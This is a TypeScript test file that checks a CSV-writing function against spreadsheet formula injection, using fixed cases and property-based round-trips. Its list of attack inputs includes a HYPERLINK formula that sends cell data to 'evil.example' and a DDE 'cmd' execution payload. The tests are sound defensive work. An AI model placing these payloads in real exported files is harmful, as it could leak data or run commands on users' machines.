import { read, utils } from '@e965/xlsx'
import { parse } from 'csv-parse/sync'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine } from './csv.ts'

/** What a spreadsheet makes of a file: the formulas it would calculate. */
const formulas = (csv: string) => {
  const { Sheets, SheetNames } = read(csv, { type: 'string', raw: false })
  const sheet = Sheets[SheetNames[0] ?? ''] ?? {}
  return Object.values(sheet).filter((each) => each && typeof each === 'object' && 'f' in each)
}
const inSheet = (csv: string) => {
  const { Sheets, SheetNames } = read(csv, { type: 'string', raw: true })
  return utils.sheet_to_json<unknown[]>(Sheets[SheetNames[0] ?? ''] ?? {}, { header: 1 })[0]
}

const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '"=1+1',
  '=1,2"\r\n=3',
]

describe('a line of CSV', () => {
  it.each(attacks)('makes no formula of the text %j', (text) => {
    expect(formulas(csvLine(['x', text]))).toEqual([])
  })

  it('would be calculated by the spreadsheet without that', () => {
    expect(formulas('x,=1+1\r\n')).toHaveLength(1)
  })

  it('leaves numbers as they are, the negative ones too', () => {
    expect(csvLine(['refund', -12.5, 0, 1e21])).toBe('refund,-12.5,0,1e+21\r\n')
    expect(inSheet(csvLine(['x', -12.5]))).toEqual(['x', '-12.5'])
  })

  it('keeps text apart by RFC 4180 alone', () => {
    const cells = ['a,b', 'say "hi"', 'two\nlines', ' padded ', '', '王秀英', '007']
    expect(parse(csvLine(cells))).toEqual([cells])
  })

  it('is read back as it was written, but for the mark in front of what would be a formula', () => {
    const cells = fc.array(fc.string({ unit: fc.constantFrom(...'",\r\n =+-@\t;a王🙂') }), {
      minLength: 2,
      maxLength: 5,
    })
    fc.assert(
      fc.property(cells, (any) => {
        const [back = []] = parse(`${csvLine(any)}`, { skip_empty_lines: false }) as string[][]
        return any.every((text, at) => back[at] === text || back[at] === `'${text}`)
      }),
    )
  })

  it('is never a formula, whatever a text begins with', () => {
    const start = fc.constantFrom(...'=+-@＝＋－＠\t\r\n "\',;|'.split(''))
    const cell = fc
      .tuple(fc.array(start, { maxLength: 4 }), fc.string())
      .map(([a, b]) => a.join('') + b)
    fc.assert(
      fc.property(cell, (text) => {
        const [[, back] = []] = parse(csvLine(['x', text])) as string[][]
        return !/^[\s\p{Cc}]*[=+\-@＝＋－＠]/u.test(back ?? '')
      }),
    )
  })
})
